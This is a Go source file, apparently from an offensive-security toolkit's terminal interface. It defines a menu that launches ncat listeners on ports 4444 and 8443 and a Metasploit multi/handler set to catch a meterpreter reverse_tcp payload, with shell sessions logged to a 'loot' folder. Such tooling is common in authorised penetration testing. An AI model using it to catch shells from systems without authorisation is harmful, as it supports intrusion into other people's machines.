package mode

import (
	"fmt"
	"time"
)

// NewShells builds the listener and handler screen.
func NewShells(env *Env) Mode {
	lootDir := env.Loot.Root
	return newCommandMode(env, "shells", "⌨", []commandEntry{
		{Icon: "👂", Label: "Ncat :4444", Timeout: 3600 * time.Second, Command: func() string {
			return fmt.Sprintf("ncat -lvnp 4444 2>&1 | tee %s", env.Loot.CapturePath("shells", "ncat4444", "log"))
		}},
		{Icon: "👂", Label: "Ncat :8443", Timeout: 3600 * time.Second, Command: func() string {
			return fmt.Sprintf("ncat -lvnp 8443 2>&1 | tee %s", env.Loot.CapturePath("shells", "ncat8443", "log"))
		}},
		{Icon: "𝓜", Label: "MSF handler", Confirm: true, Timeout: 3600 * time.Second, Command: func() string {
			return "msfconsole -q -x 'use exploit/multi/handler; set payload linux/x64/meterpreter/reverse_tcp; set LHOST 0.0.0.0; set LPORT 4444; run'"
		}},
		{Icon: "≡", Label: "List shells", Timeout: 15 * time.Second, Command: func() string {
			return "ls -lh " + lootDir + "/shells"
		}},
		{Icon: "■", Label: "Stop listeners", Command: func() string { return "pkill -f ncat; pkill -f msfconsole" }, Timeout: 15 * time.Second},
	})
}
